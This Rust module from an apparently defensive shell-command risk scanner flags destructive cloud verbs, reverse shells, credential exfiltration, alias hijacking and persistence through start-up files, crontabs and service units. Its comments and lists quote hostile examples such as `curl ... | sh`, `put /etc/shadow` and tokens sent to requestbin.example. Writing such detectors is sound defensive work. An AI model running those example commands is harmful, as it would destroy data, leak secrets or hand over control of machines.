//! Effects that come from how commands are combined rather than from one utility's flags:
//! secrets or a shell flowing into a network tool, aliases and start-up files, program names
//! spelled as globs, output that never ends, and the destructive-verb rule for programs no
//! rule row describes.

use super::flow::NETWORK_SINKS;
use super::rules::operands;
use super::targets::{self, TargetKind};
use super::walk::{Arg, Frame, Input, Invocation, Stage, Walker};
use super::{Category, RiskLevel, Span};

/// Verbs that destroy when a program is told to do them (`gh repo delete`, `heroku
/// apps:destroy`, `aws s3 rb`).
const DESTRUCTIVE_VERBS: &[&str] = &[
    "delete",
    "destroy",
    "drop",
    "purge",
    "wipe",
    "remove",
    "rm",
    "rb",
    "prune",
    "reset",
    "truncate",
    "flush",
    "flushall",
    "flushdb",
    "uninstall",
    "terminate",
    "erase",
    "nuke",
    "del",
    "rmi",
    "deregister",
    "undefine",
    "teardown",
    "obliterate",
    "unpublish",
    "yank",
];

/// Options that skip a program's confirmation prompt.
const SKIP_CONFIRMATION: &[&str] = &[
    "-f",
    "--force",
    "-y",
    "--yes",
    "-q",
    "--quiet",
    "-auto-approve",
    "--auto-approve",
    "--no-prompt",
    "--noinput",
    "--no-input",
    "--non-interactive",
    "--assume-yes",
    "--confirm",
    "--skip-confirmation",
    "--no-confirm",
    "--noconfirm",
    "-force",
    "--force-delete",
    "--yes-i-really-mean-it",
    "--yes-i-really-really-mean-it",
    "--accept-data-loss",
    "--skip-final-snapshot",
    "--purge",
    "-purge",
    "-Force",
    "--remove-all-storage",
    "--delete-automated-backups",
    "--force-delete-without-recovery",
];

/// First operands that only read (`terraform plan -destroy`, `gh repo list`).
const READ_VERBS: &[&str] = &[
    "plan",
    "preview",
    "diff",
    "show",
    "list",
    "ls",
    "get",
    "describe",
    "status",
    "help",
    "explain",
    "validate",
    "search",
    "info",
    "inspect",
    "logs",
    "history",
    "version",
    "auth",
    "view",
    "print",
    "lint",
    "completion",
    "config",
];

/// Whether `arg` is `flag`: exactly, as `--flag=value`, or for a one-letter flag inside a
/// short cluster (`-rf`, but not `-destroy`).
fn skips_with(arg: &str, flag: &str) -> bool {
    if arg == flag
        || arg
            .strip_prefix(flag)
            .is_some_and(|rest| rest.starts_with('='))
    {
        return true;
    }
    let short = flag.len() == 2 && flag.starts_with('-') && !flag.starts_with("--");
    short
        && arg.len() <= 4
        && arg.starts_with('-')
        && !arg.starts_with("--")
        && arg[1..].chars().all(|c| c.is_ascii_alphabetic())
        && arg.contains(&flag[1..])
}

/// Programs that destroy what they are told to without asking.
const NEVER_ASKS: &[&str] = &[
    "eksctl",
    "aws",
    "gsutil",
    "s3cmd",
    "mc",
    "s5cmd",
    "rclone",
    "etcdctl",
    "consul",
    "openstack",
    "influx",
    "kafka-topics",
    "kafka-topics.sh",
    "redis-cli",
    "curl",
];

/// What, destroyed whole, takes everything in it: a Critical loss without a confirmation.
const WHOLE_NOUNS: &[&str] = &[
    "cluster",
    "clusters",
    "project",
    "projects",
    "account",
    "organization",
    "namespace",
    "namespaces",
    "subscription",
    "tenant",
    "aks",
    "eks",
    "gke",
];

/// Containers of data: destroying one is High even when the program asks first.
const STORE_NOUNS: &[&str] = &[
    "bucket",
    "buckets",
    "database",
    "databases",
    "db",
    "table",
    "tables",
    "topic",
    "topics",
    "volume",
    "volumes",
    "keyspace",
    "snapshots",
    "backup",
    "backups",
    "vault",
    "keyvault",
    "subvolume",
    "pool",
    "dataset",
    "stack",
    "instances",
    "prefix",
    "everything",
    "batch",
];

/// Programs whose output is one value, not a list of things to destroy.
const SINGLE_VALUE: &[&str] = &[
    "basename", "dirname", "pwd", "date", "whoami", "hostname", "id", "uname", "echo", "printf",
    "head", "git", "realpath", "readlink",
];

/// Verbs that count as options: `kafka-topics --delete --topic x`.
const OPTION_VERBS: &[&str] = &[
    "delete", "destroy", "drop", "purge", "wipe", "truncate", "flush",
];

/// Commands whose replacement by an alias or function hides what the user types.
/// (Not `ls` or `cat`: `alias ls=eza` and `alias cat=bat` are everyday.)
const TRUSTED_COMMANDS: &[&str] = &[
    "sudo",
    "su",
    "doas",
    "passwd",
    "ssh",
    "scp",
    "sftp",
    "login",
    "gpg",
    "curl",
    "wget",
    "apt",
    "apt-get",
    "dnf",
    "yum",
    "pacman",
    "brew",
    "ssh-add",
    "ssh-keygen",
    "kinit",
];

/// Whether an argument spells a destructive verb: the whole word, the first part of a
/// hyphenated one (`delete-stack`) or the last of a colon-separated one (`apps:destroy`).
fn destructive_verb(text: &str) -> Option<&str> {
    if text.is_empty()
        || text.len() > 40
        || !text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ':'))
    {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    let candidates = [
        lower.as_str(),
        lower.split(['-', '_']).next().unwrap_or_default(),
        lower.rsplit(':').next().unwrap_or_default(),
    ];
    candidates
        .into_iter()
        .find_map(|word| DESTRUCTIVE_VERBS.iter().find(|v| **v == word).copied())
}

impl Walker<'_> {
    /// The rule for programs no row describes: a destructive verb among the first operands
    /// (or as an option: `--delete`) is Moderate. It is High when an option skips the
    /// confirmation or when what it destroys is chosen at run time; Critical when a whole
    /// cluster, project or account goes without a question (an option skips it, or the
    /// program never asks).
    pub(super) fn destructive_verbs(&mut self, base: &str, invocation: &Invocation) {
        if DESTRUCTIVE_VERBS.contains(&base) {
            return;
        }
        let args = &invocation.args;
        let operands = operands(args);
        // `terraform plan -destroy`, `gh repo list`: reading first, whatever the words after.
        if operands
            .first()
            .is_some_and(|first| READ_VERBS.contains(&first.text.as_str()))
        {
            return;
        }
        let as_operand = operands
            .iter()
            .take(4)
            .filter(|a| a.is_literal())
            .find_map(|a| destructive_verb(&a.text).map(|v| (v, *a)));
        // As an option only the plain verb counts (`--delete`), not `--remove-unused-imports`.
        let as_option = || {
            args.iter()
                .filter(|a| a.text.starts_with('-') && a.is_literal())
                .find_map(|a| {
                    let word = a.text.trim_start_matches('-');
                    OPTION_VERBS.contains(&word).then_some((word, a))
                })
        };
        let Some((verb, arg)) = as_operand.or_else(as_option) else {
            return;
        };
        let skip = SKIP_CONFIRMATION
            .iter()
            .find(|flag| {
                args.iter().enumerate().any(|(index, a)| {
                    // `-f path/to/file` names a file; it does not force anything.
                    let takes_file = **flag == "-f"
                        && args.get(index + 1).is_some_and(|next| {
                            !next.text.starts_with('-') && next.text.contains(['/', '.'])
                        });
                    a.span != arg.span && skips_with(&a.text, flag) && !takes_file
                })
            })
            .map(|flag| format!("`{flag}` skips the confirmation"));
        let never_asks = NEVER_ASKS
            .contains(&base)
            .then(|| format!("`{base}` does not ask first"));
        // What is destroyed: the word just before the verb (`gh repo delete`), just after it
        // when nothing precedes (`kind delete cluster`), or a part of the verb itself
        // (`delete-bucket`, `db:drop`); with an option verb, the option names too
        // (`--delete --topic x`).
        let position = args
            .iter()
            .position(|a| a.span == arg.span && a.text == arg.text);
        let mut objects: Vec<&Arg> = vec![arg];
        if let Some(at) = position {
            let before = args[..at].iter().rev().find(|a| !a.text.starts_with('-'));
            let after = args[at + 1..].iter().find(|a| !a.text.starts_with('-'));
            objects.extend(before.or(after));
            if arg.text.starts_with('-') {
                objects.extend(args.iter().filter(|a| a.text.starts_with("--")));
            }
        }
        // The verb's own parts are split (`delete-bucket`, `db:drop`); other words count whole.
        let nouns: Vec<String> = objects
            .iter()
            .filter(|a| a.is_literal())
            .flat_map(|a| {
                let text = a.text.trim_start_matches('-').to_ascii_lowercase();
                if std::ptr::eq(*a, arg) {
                    text.split(['-', '_', ':', '.'])
                        .map(str::to_owned)
                        .collect::<Vec<_>>()
                } else {
                    vec![text]
                }
            })
            .collect();
        let whole = nouns.iter().find(|w| WHOLE_NOUNS.contains(&w.as_str()));
        let store = nouns.iter().find(|w| STORE_NOUNS.contains(&w.as_str()));
        // Operands chosen at run time from a listing: xargs input, `$(docker ps -aq)`.
        let bulk = operands.iter().any(|a| {
            a.text == "<input>"
                || a.generated_by
                    .as_deref()
                    .is_some_and(|p| !SINGLE_VALUE.contains(&p))
        });
        let (level, why) = match (&skip, &never_asks, &whole, &store) {
            (Some(skip), _, Some(noun), _) | (None, Some(skip), Some(noun), _) => {
                (RiskLevel::Critical, format!("a whole {noun}, and {skip}"))
            }
            _ if bulk && (never_asks.is_some() || skip.is_some()) => (
                RiskLevel::Critical,
                "everything a listing returns, without asking".to_owned(),
            ),
            (Some(skip), _, None, Some(noun)) => {
                (RiskLevel::High, format!("a whole {noun}, and {skip}"))
            }
            (Some(skip), _, None, None) => (RiskLevel::High, skip.clone()),
            _ if bulk && (never_asks.is_some() || skip.is_some()) => (
                RiskLevel::Critical,
                "everything a listing returns, and the program does not ask first".to_owned(),
            ),
            _ if bulk => (RiskLevel::High, "what, only the run decides".to_owned()),
            (None, _, Some(noun), _) | (None, _, None, Some(noun)) => {
                (RiskLevel::High, format!("a whole {noun}"))
            }
            _ => (
                RiskLevel::Moderate,
                "check what before you confirm".to_owned(),
            ),
        };
        let span = Span::new(
            arg.span.start.min(invocation.span.start),
            invocation.span.end,
        );
        let message = format!(
            "`{base} … {}` {verb}s: {why}; it cannot be undone",
            arg.text
        );
        self.report(level, Category::Delete, span, message);
    }

    /// `/???/r? -rf /`: a program named by a glob runs whatever the pattern matches. It is
    /// judged as every known program it could be.
    pub(super) fn glob_program(&mut self, base: &str, invocation: &Invocation, frame: &Frame) {
        self.report(
            RiskLevel::Moderate,
            Category::Opaque,
            invocation.name.span,
            format!("the program is a file name pattern (`{}`), so which program runs is only known at run time", invocation.name.text)
        );
        let pattern = wildmatch::WildMatch::new(base);
        let mut candidates: Vec<String> = self
            .rules
            .known_names()
            .filter(|name| !name.contains(['*', '?', '[']) && pattern.matches(name))
            .map(str::to_owned)
            .collect();
        candidates.sort();
        candidates.truncate(16);
        for name in candidates {
            let name = Arg {
                text: name,
                ..invocation.name.clone()
            };
            self.invoke(invocation.wrapped(&name, invocation.args.clone()), frame);
        }
    }

    /// `alias name='text'`: the text runs when the name is typed; replacing a command users
    /// trust is how start-up files are abused.
    pub(super) fn alias(&mut self, invocation: &Invocation, frame: &Frame) {
        for arg in &invocation.args {
            let Some((name, text)) = arg.text.split_once('=') else {
                continue;
            };
            if name.starts_with('-') || text.is_empty() {
                continue;
            }
            self.aliases.insert(name.to_owned(), text.to_owned());
            // Defining an alias runs nothing: only a payload that is Critical whenever it runs
            // (`alias x='curl ... | sh'`) counts now; the rest counts where the alias is used.
            let before = self.finding_count();
            let nested = self.nested(frame, text, arg.span, invocation.privileged);
            self.code(&nested);
            self.keep_findings_since(before, RiskLevel::Critical);
            self.shadowing(name, text, arg.span);
        }
    }

    /// An alias or function that makes a trusted command run something else.
    pub(super) fn shadowing(&mut self, name: &str, replacement: &str, span: Span) {
        let first = replacement
            .split_whitespace()
            .find(|w| !w.contains('='))
            .unwrap_or_default();
        let program = first.rsplit('/').next().unwrap_or_default();
        // The program itself lives in a scratch directory or has a hidden name.
        // The program itself, or anything it runs, lives in a scratch directory, or the
        // program has a hidden name.
        let hidden = replacement.split_whitespace().any(|w| {
            ["/tmp/", "/dev/shm/", "/var/tmp/"]
                .iter()
                .any(|d| w.starts_with(d))
        }) || first.contains('/')
            && first
                .rsplit('/')
                .next()
                .is_some_and(|b| b.starts_with('.') && b.len() > 1);
        let destroys = matches!(
            program,
            "rm" | "dd"
                | "shred"
                | "mkfs"
                | "wipefs"
                | "kill"
                | "pkill"
                | "killall"
                | "chmod"
                | "chown"
                | "truncate"
        );
        // `alias ls='rm -rf'`: a command people type all the time made to destroy.
        let shadows = self.rules.is_known(name) || TRUSTED_COMMANDS.contains(&name);
        let replaced = (TRUSTED_COMMANDS.contains(&name) || destroys && shadows)
            && program != name
            && !matches!(program, "command" | "builtin");
        if hidden || replaced {
            self.report(
                RiskLevel::High,
                Category::Schedule,
                span,
                format!("makes `{name}` run `{replacement}` instead, hidden from whoever types it"),
            );
        }
    }

    /// `cd DIR`: where later commands (`python3 -m http.server`) run.
    pub(super) fn change_directory(&mut self, invocation: &Invocation) {
        self.cwd = match operands(&invocation.args).first() {
            Some(dir) if dir.is_literal() => Some(dir.text.clone()),
            Some(_) => None,
            None => Some("~".to_owned()),
        };
    }

    /// What the current directory is, for a program that serves or archives it.
    pub(super) fn cwd_kind(&self) -> Option<TargetKind> {
        self.cwd
            .as_deref()
            .and_then(|dir| targets::classify(dir, None))
    }

    /// Serving a directory over HTTP: the whole file system or a home directory is High.
    pub(super) fn serves(&mut self, directory: Option<&Arg>, span: Span) {
        let kind = match directory {
            Some(dir) => targets::classify(&dir.text, dir.dynamic_at),
            None => self.cwd_kind(),
        };
        let shown = directory.map_or_else(
            || self.cwd.clone().unwrap_or_else(|| ".".into()),
            |d| d.text.clone(),
        );
        let (level, message) = match kind {
            Some(
                TargetKind::Root
                | TargetKind::System
                | TargetKind::Protected
                | TargetKind::CriticalFile,
            ) => (
                RiskLevel::High,
                format!(
                    "serves `{shown}`, system files included, to anyone who can reach this machine"
                ),
            ),
            Some(TargetKind::Secret) => (
                RiskLevel::Critical,
                format!(
                    "serves `{shown}`, keys and credentials, to anyone who can reach this machine"
                ),
            ),
            Some(TargetKind::Home | TargetKind::UserData) => (
                RiskLevel::High,
                format!(
                    "serves `{shown}`, with your keys and private files, to anyone who can reach this machine"
                ),
            ),
            _ => (
                RiskLevel::Moderate,
                format!("serves `{shown}` to anyone who can reach this machine"),
            ),
        };
        self.report(level, Category::Network, span, message);
    }

    /// `vim -c ':!cmd'`, `vim +'!cmd'`: an editor told to run a shell command.
    pub(super) fn editor_commands(&mut self, invocation: &Invocation, frame: &Frame) {
        let args = &invocation.args;
        for (index, arg) in args.iter().enumerate() {
            let command = if arg.text == "-c" || arg.text == "--cmd" {
                args.get(index + 1).map(|a| a.text.as_str())
            } else {
                arg.text.strip_prefix('+')
            };
            let Some(command) = command else { continue };
            let command = command.trim_start_matches(':').trim_start();
            let command = command
                .strip_prefix("silent")
                .unwrap_or(command)
                .trim_start();
            if let Some(shell) = command.strip_prefix('!') {
                let nested = self.nested(frame, shell, arg.span, invocation.privileged);
                self.code(&nested);
            }
        }
    }

    /// `set -- a b c`: the positional parameters later words expand (`$1`, `$*`).
    pub(super) fn set_positionals(&mut self, invocation: &Invocation) {
        let args = &invocation.args;
        let start = match args.first() {
            Some(first) if first.text == "--" => 1,
            Some(first) if !first.text.starts_with(['-', '+']) => 0,
            _ => return,
        };
        let values: Vec<&Arg> = args[start..].iter().collect();
        if !values.iter().all(|a| a.is_literal()) {
            return;
        }
        for (index, value) in values.iter().enumerate() {
            self.vars
                .insert((index + 1).to_string(), value.text.clone());
        }
        let all = values
            .iter()
            .map(|a| a.text.as_str())
            .collect::<Vec<_>>()
            .join(" ");
        self.vars.insert("@".to_owned(), all);
    }

    /// `docker exec CONTAINER CMD...`, `kubectl exec POD -- CMD...`: the command runs too.
    pub(super) fn container_exec(
        &mut self,
        base: &str,
        invocation: &Invocation,
        frame: &Frame,
    ) -> bool {
        let args = &invocation.args;
        let Some(exec) = args.iter().take(3).position(|a| a.text == "exec") else {
            return false;
        };
        let rest = &args[exec + 1..];
        let start = if base == "kubectl" || base == "oc" {
            match rest.iter().position(|a| a.text == "--") {
                Some(at) => at + 1,
                None => return true,
            }
        } else {
            const VALUES: &[&str] = &[
                "-e",
                "--env",
                "-u",
                "--user",
                "-w",
                "--workdir",
                "--env-file",
            ];
            super::rules::skip_options(rest, VALUES) + 1
        };
        if let Some((name, inner)) = rest.get(start..).and_then(|r| r.split_first()) {
            let mut wrapped = invocation.wrapped(name, inner.to_vec());
            wrapped.stdin = invocation.stdin.clone();
            self.invoke(wrapped, frame);
        }
        true
    }

    /// A network tool fed by a shell (a reverse shell) or by secrets (exfiltration).
    pub(super) fn network_sink(&mut self, base: &str, invocation: &Invocation) {
        if !NETWORK_SINKS.contains(&base) {
            return;
        }
        if let Input::Pipe(stages, start) = &invocation.stdin {
            let span = Span::new(*start, invocation.span.end);
            if stages.iter().any(|s| matches!(s, Stage::Shell)) {
                self.report(
                    RiskLevel::Critical,
                    Category::Network,
                    span,
                    format!("connects a shell to `{base}`: whoever is at the other end controls this machine")
                );
            } else if stages.iter().any(|s| matches!(s, Stage::Secret)) {
                self.report(
                    RiskLevel::Critical,
                    Category::Exfiltration,
                    span,
                    format!("sends keys, credentials or environment variables to another machine with `{base}`")
                );
            }
        }
        // `smbclient -c 'put /etc/shadow'`, `socat ... OPEN:/etc/shadow`: a secret named inside
        // what the tool is told to send.
        let named = invocation.args.iter().find(|a| {
            a.is_literal()
                && a.text.contains([' ', ':', ','])
                && a.text
                    .split([' ', ':', ',', '=', '@'])
                    .any(|part| part.starts_with(['/', '~']) && targets::holds_secrets(part))
        });
        if let Some(arg) = named {
            self.report(
                RiskLevel::Critical,
                Category::Exfiltration,
                arg.span,
                format!("makes `{base}` send or serve a file of keys or credentials"),
            );
        }
        // `curl -H "X-T: $GITHUB_TOKEN" https://requestbin.example/...`: a credential from the
        // environment sent to a host that is not its service.
        let host = invocation
            .args
            .iter()
            .find_map(|a| a.text.split_once("://").map(|(_, rest)| rest))
            .map(|rest| {
                rest.split(['/', ':', '?'])
                    .next()
                    .unwrap_or_default()
                    .to_ascii_lowercase()
            });
        if let Some(host) = host {
            let leaked = invocation.args.iter().find_map(|a| {
                a.text.split('$').skip(1).find_map(|part| {
                    let name: String = part
                        .trim_start_matches('{')
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    let upper = name.to_ascii_uppercase();
                    let secret = [
                        "TOKEN",
                        "SECRET",
                        "PASSWORD",
                        "PASSWD",
                        "API_KEY",
                        "APIKEY",
                        "ACCESS_KEY",
                        "PRIVATE_KEY",
                    ]
                    .iter()
                    .any(|w| upper.contains(w));
                    let service = upper
                        .split('_')
                        .next()
                        .unwrap_or_default()
                        .to_ascii_lowercase();
                    (secret && !host.contains(&service)).then_some((name, a.span))
                })
            });
            if let Some((name, span)) = leaked {
                self.report(
                    RiskLevel::High,
                    Category::Exfiltration,
                    span,
                    format!("sends ${name}, a credential, to `{host}`, which is not its service"),
                );
            }
        }
        if let Some(arg) = invocation.args.iter().find(|a| a.from_secret) {
            self.report(
                RiskLevel::Critical,
                Category::Exfiltration,
                arg.span,
                format!("puts keys or credentials into what `{base}` sends to another machine"),
            );
        }
    }

    /// After a simple command: what it wrote with `>` (downloads saved to a file, output
    /// without end, scripts and lines for files that run later).
    pub(super) fn output_written(
        &mut self,
        invocation: &Invocation,
        stage: &Stage,
        files: &[Arg],
        frame: &Frame,
    ) {
        if matches!(stage, Stage::Download) {
            for file in files {
                self.downloaded
                    .insert(file.text.trim_start_matches("./").to_owned());
            }
        }
        let base = invocation.name.text.rsplit('/').next().unwrap_or_default();
        let endless = endless_output(base, invocation) || matches!(stage, Stage::Endless);
        if let Some(file) = files.first().filter(|_| endless) {
            self.report(
                RiskLevel::High,
                Category::Resources,
                file.span,
                format!(
                    "writes output that never ends into `{}` until the disk is full",
                    file.text
                ),
            );
        }
        let text = match (base, stage.output()) {
            (_, Some(text)) => Some(text.to_owned()),
            ("cat", None) => match &invocation.stdin {
                Input::Text(text, _) => Some(text.clone()),
                _ => None,
            },
            _ => None,
        };
        if let Some(text) = text {
            for file in files {
                self.written
                    .insert(file.text.trim_start_matches("./").to_owned(), text.clone());
                self.persisted(&file.text, &text, file.span, frame, invocation.privileged);
            }
        }
    }

    /// Text written to a file that runs later: a shell start-up file, a crontab, a systemd
    /// unit or launchd job, an apt hook. What it will run is analysed now.
    pub(super) fn persisted(
        &mut self,
        path: &str,
        text: &str,
        span: Span,
        frame: &Frame,
        privileged: bool,
    ) {
        let Some(kind) = persistence(path) else {
            return;
        };
        let commands: Vec<String> = match kind {
            Persistence::Shell => {
                self.startup_text(text, span, frame, privileged);
                return;
            }
            Persistence::Cron { user_field } => text
                .lines()
                .map(str::trim)
                .filter(|l| !l.is_empty() && !l.starts_with('#') && !is_env_line(l))
                .filter_map(|line| {
                    let fields =
                        if line.starts_with('@') { 1 } else { 5 } + usize::from(user_field);
                    line.splitn(fields + 1, char::is_whitespace)
                        .nth(fields)
                        .map(str::to_owned)
                })
                .collect(),
            Persistence::Service => text
                .lines()
                .filter_map(|line| {
                    let (key, value) = line.trim().split_once('=')?;
                    key.starts_with("Exec").then(|| {
                        value
                            .trim_start_matches(['-', '@', '+', '!', ':'])
                            .to_owned()
                    })
                })
                .chain(plist_program(text))
                .collect(),
            Persistence::Hook => quoted_strings(text),
        };
        for command in commands {
            let nested = self.nested(frame, &command, span, privileged);
            self.code(&nested);
            let program = command
                .split_whitespace()
                .find(|w| !w.contains('='))
                .unwrap_or_default();
            if hidden_path(program) {
                self.report(
                    RiskLevel::High,
                    Category::Schedule,
                    span,
                    format!("makes `{program}`, a hidden program or one in a scratch directory, run again and again")
                );
            }
        }
    }

    /// `... | tee FILE`: what tee writes where.
    pub(super) fn tee(&mut self, invocation: &Invocation, frame: &Frame) {
        let from_download = matches!(&invocation.stdin, Input::Pipe(stages, _) if stages.iter().any(|s| matches!(s, Stage::Download)));
        let text = super::flow::input_text(invocation);
        for file in operands(&invocation.args) {
            if from_download {
                self.downloaded
                    .insert(file.text.trim_start_matches("./").to_owned());
                if persistence(&file.text).is_some() {
                    self.report(
                        RiskLevel::Critical,
                        Category::DownloadExecute,
                        file.span,
                        format!(
                            "writes text downloaded from the network into `{}`, which runs later",
                            file.text
                        ),
                    );
                }
            }
            if let Some(text) = &text {
                self.written.insert(file.text.clone(), text.clone());
                self.persisted(&file.text, text, file.span, frame, invocation.privileged);
            }
        }
    }

    /// Lines written to a shell start-up file run in every new shell.
    fn startup_text(&mut self, text: &str, span: Span, frame: &Frame, privileged: bool) {
        let nested = self.nested(frame, text, span, privileged);
        self.code(&nested);
        // `export PROMPT_COMMAND="curl ... | sh"`: that text runs before every prompt.
        for line in text.lines() {
            if let Some(value) = line.split_once("PROMPT_COMMAND=").map(|(_, v)| v) {
                let value = value.trim().trim_matches(['"', '\'']).replace("\\\"", "\"");
                let nested = self.nested(frame, &value, span, privileged);
                self.code(&nested);
            }
        }
        let hijack = [
            "LD_PRELOAD",
            "LD_LIBRARY_PATH=/tmp",
            "PROMPT_COMMAND",
            "PATH=/tmp",
            "PATH=.:",
            "PATH=\"/tmp",
            "PATH=\".:",
        ];
        if let Some(marker) = hijack.iter().find(|m| text.contains(*m)) {
            self.report(
                RiskLevel::High,
                Category::Schedule,
                span,
                format!("makes every new shell load `{marker}`: other programs run in place of the ones you type")
            );
        }
    }
}

/// Programs whose output to a file never ends: `yes`, `cat /dev/zero`, `dd if=/dev/urandom`
/// without a count.
fn endless_output(base: &str, invocation: &Invocation) -> bool {
    const ENDLESS: &[&str] = &["/dev/zero", "/dev/urandom", "/dev/random"];
    let args = &invocation.args;
    match base {
        "yes" => true,
        "cat" | "pv" | "tail" => operands(args)
            .iter()
            .any(|a| ENDLESS.contains(&a.text.as_str())),
        "head" => {
            let size = args
                .iter()
                .position(|a| a.text == "-c" || a.text == "--bytes")
                .and_then(|at| args.get(at + 1))
                .map(|a| a.text.as_str())
                .or_else(|| {
                    args.iter()
                        .find_map(|a| a.text.strip_prefix("-c").filter(|s| !s.is_empty()))
                })
                .or_else(|| args.iter().find_map(|a| a.text.strip_prefix("--bytes=")));
            size.is_some_and(huge_size)
        }
        _ => false,
    }
}

/// Sizes of 50 GB or more (`500G`, `1T`, `2P`).
pub(super) fn huge_size(text: &str) -> bool {
    let text = text.trim_end_matches(['B', 'b', 'i']);
    let (digits, unit) = text.split_at(
        text.find(|c: char| !c.is_ascii_digit() && c != '.')
            .unwrap_or(text.len()),
    );
    let Ok(number) = digits.parse::<f64>() else {
        return false;
    };
    let gigabytes = match unit.to_ascii_uppercase().as_str() {
        "G" => number,
        "T" => number * 1024.0,
        "P" | "E" => number * 1024.0 * 1024.0,
        "M" => number / 1024.0,
        "" => number / 1e9,
        _ => return false,
    };
    gigabytes >= 50.0
}

/// Files whose contents run later, and how to read the commands out of them.
enum Persistence {
    /// Shell code: start-up files, `/etc/profile.d/*`, `/etc/rc.local`, git hooks.
    Shell,
    /// Crontab lines; system crontabs have a user field.
    Cron { user_field: bool },
    /// systemd units (`ExecStart=`) and launchd jobs (`ProgramArguments`).
    Service,
    /// Package-manager hooks: commands in quoted strings.
    Hook,
}

/// Whether what is written to `path` runs later (a start-up file, crontab, unit, hook).
pub(super) fn runs_later(path: &str) -> bool {
    persistence(path).is_some()
}

fn persistence(path: &str) -> Option<Persistence> {
    const STARTUP: &[&str] = &[
        ".bashrc",
        ".bash_profile",
        ".bash_login",
        ".profile",
        ".zshrc",
        ".zprofile",
        ".zshenv",
        ".zlogin",
        ".config/fish/config.fish",
        ".xinitrc",
        ".xprofile",
        "/etc/profile",
        "/etc/bash.bashrc",
        "/etc/environment",
        "/etc/rc.local",
        "/etc/zsh/zshrc",
        "/etc/zshrc",
    ];
    const SHELL_DIRS: &[&str] = &["/etc/profile.d/", ".git/hooks/", "/etc/init.d/"];
    let name = path.rsplit('/').next().unwrap_or_default();
    let service = path.contains(".config/autostart/")
        || path.contains("/etc/xdg/autostart/")
        || path.contains("/systemd/")
            && [".service", ".timer", ".conf"]
                .iter()
                .any(|e| name.ends_with(e))
        || path.contains("LaunchAgents/")
        || path.contains("LaunchDaemons/");
    Some(
        if STARTUP.iter().any(|f| path.ends_with(f)) || SHELL_DIRS.iter().any(|d| path.contains(d))
        {
            Persistence::Shell
        } else if path == "/etc/crontab" || path.starts_with("/etc/cron.d/") {
            Persistence::Cron { user_field: true }
        } else if path.starts_with("/var/spool/cron") || path.starts_with("/etc/cron.") {
            Persistence::Cron { user_field: false }
        } else if service {
            Persistence::Service
        } else if [
            "/apt/apt.conf.d/",
            "/etc/update-motd.d/",
            "/yum/pluginconf.d/",
            "/udev/rules.d/",
        ]
        .iter()
        .any(|d| path.contains(d))
            || name.ends_with(".pth") && path.contains("-packages/")
        {
            Persistence::Hook
        } else {
            return None;
        },
    )
}

fn is_env_line(line: &str) -> bool {
    line.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// A program in a scratch directory or with a hidden name (`/tmp/.x`, `~/.cache/agent`).
fn hidden_path(program: &str) -> bool {
    ["/tmp/", "/dev/shm/", "/var/tmp/"]
        .iter()
        .any(|d| program.starts_with(d))
        || program.contains('/')
            && program
                .split('/')
                .any(|part| part.starts_with('.') && part.len() > 1 && part != "..")
}

/// The command of a launchd job: its `ProgramArguments` strings joined.
fn plist_program(text: &str) -> Option<String> {
    let start = text.find("ProgramArguments")?;
    let array = &text[start..];
    let end = array.find("</array>").unwrap_or(array.len());
    let words: Vec<&str> = array[..end]
        .split("<string>")
        .skip(1)
        .filter_map(|part| part.split("</string>").next())
        .collect();
    (!words.is_empty()).then(|| words.join(" "))
}

/// The double- or single-quoted strings in `text`, escapes removed.
pub(super) fn quoted_strings(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = text.chars();
    while let Some(quote) = chars.next() {
        if quote != '"' && quote != '\'' {
            continue;
        }
        let mut value = String::new();
        let mut escaped = false;
        for next in chars.by_ref() {
            if escaped {
                value.push(next);
                escaped = false;
            } else if next == '\\' {
                escaped = true;
            } else if next == quote {
                out.push(std::mem::take(&mut value));
                break;
            } else {
                value.push(next);
            }
        }
    }
    out
}
